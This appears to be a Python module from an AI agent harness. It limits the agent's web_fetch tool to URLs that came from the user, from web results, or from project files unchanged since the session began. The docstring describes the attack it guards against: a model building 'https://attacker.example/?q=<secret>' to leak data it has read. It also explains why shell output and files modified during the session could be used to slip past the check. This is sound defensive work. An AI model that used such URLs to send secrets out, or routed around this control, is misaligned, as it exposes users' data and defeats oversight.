"""Which URLs reached the conversation from outside the model: the only ones `web_fetch` fetches.

A model that read a secret could build `https://attacker.example/?q=<secret>` and fetch it; what it
cannot do is make that URL appear where only others write. So a URL counts when it occurs in

    the user's own messages (also those a compaction kept); a sub-agent's prompt and follow-ups are its
        parent agent's words and do not count, its parents' conversations do;
    a page `web_fetch` fetched (its full text) or a `web_search` result (the tool's, or the pages a
        provider's hosted search returned: items.SearchSources);
    a file `read_file` showed, when that file in the project itself (not a pending-mode copy or a worktree)
        has not changed since the session began (its ctime, which no command can set back) and holds the URL.

Command output (`shell`), MCP tools and other tools' results do not count: a command can print any text
it computes from a secret, and a file changed during the session may have been written by one. The test
is a substring match of the URL as the model sent it, its scheme and fragment left out: every byte that
leaves is a byte someone other than the model wrote.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Sequence

from auger.policy.paths import PathEscape, resolve_inside
from auger.protocol.items import Compaction, SearchSources, ToolCall, ToolOutput, UserMessage
from auger.tools.base import ToolContext, Transcript

SOURCE_TOOLS = frozenset({"web_fetch", "web_search"})  # their whole output came from the web
READ_TOOL = "read_file"
MAX_CHECKED_FILE = 8 << 20  # bytes of a file read to confirm it still holds the URL


def needles(url: str) -> tuple[str, ...]:
    """What must occur in a source: the URL without its scheme and fragment (a bare `example.com/` also
    matches `example.com`)."""
    base = url.split("#", 1)[0]
    rest = base.split("://", 1)[1] if "://" in base else base
    if rest.endswith("/") and rest.count("/") == 1:
        return (rest, rest[:-1])
    return (rest,)


async def appeared(url: str, ctx: ToolContext) -> bool:
    """Whether `url` reached the caller's conversation (or an ancestor's) from outside the model."""
    wanted = needles(url)
    transcript = ctx.transcript
    while transcript is not None:
        if await _in_transcript(wanted, transcript):
            return True
        transcript = transcript.parent
    return False


async def _in_transcript(wanted: tuple[str, ...], transcript: Transcript) -> bool:
    items = list(transcript.items())
    calls = {item.call_id: item for item in items if isinstance(item, ToolCall)}
    for item in items:
        if transcript.from_person and isinstance(item, UserMessage) and _holds(item.text, wanted):
            return True
        if transcript.from_person and isinstance(item, Compaction) and any(
                _holds(text, wanted) for text in item.user_messages):
            return True
        if isinstance(item, SearchSources) and any(_holds(u, wanted) for u in item.urls):
            return True
        if not isinstance(item, ToolOutput) or item.call_id not in calls:
            continue
        call = calls[item.call_id]
        if call.name in SOURCE_TOOLS and await _source_holds(item, transcript, wanted):
            return True
        if call.name == READ_TOOL and _holds(item.output, wanted) and _file_still_holds(call, transcript.root,
                                                                                       wanted, transcript.since):
            return True
    return False


def _holds(text: str, wanted: Sequence[str]) -> bool:
    return any(needle and needle in text for needle in wanted)


async def _source_holds(output: ToolOutput, transcript: Transcript, wanted: tuple[str, ...]) -> bool:
    """In what the model was shown, or in the full text kept for `recall` (a long page is cut)."""
    if _holds(output.output, wanted):
        return True
    stored = await transcript.archive.get_output(output.call_id)
    return stored is not None and _holds(stored[2], wanted)


def _file_still_holds(call: ToolCall, root: Path, wanted: tuple[str, ...], since: float) -> bool:
    """The file the call read, unchanged since the session began, still holds the URL."""
    try:
        path = json.loads(call.arguments).get("path")
        real = resolve_inside(root, str(path))
        st = os.stat(real)
        if st.st_ctime >= since or st.st_size > MAX_CHECKED_FILE:
            return False
        data = real.read_bytes()
    except (PathEscape, OSError, ValueError, AttributeError, TypeError):
        return False
    return any(needle.encode("utf-8", "surrogateescape") in data for needle in wanted if needle)
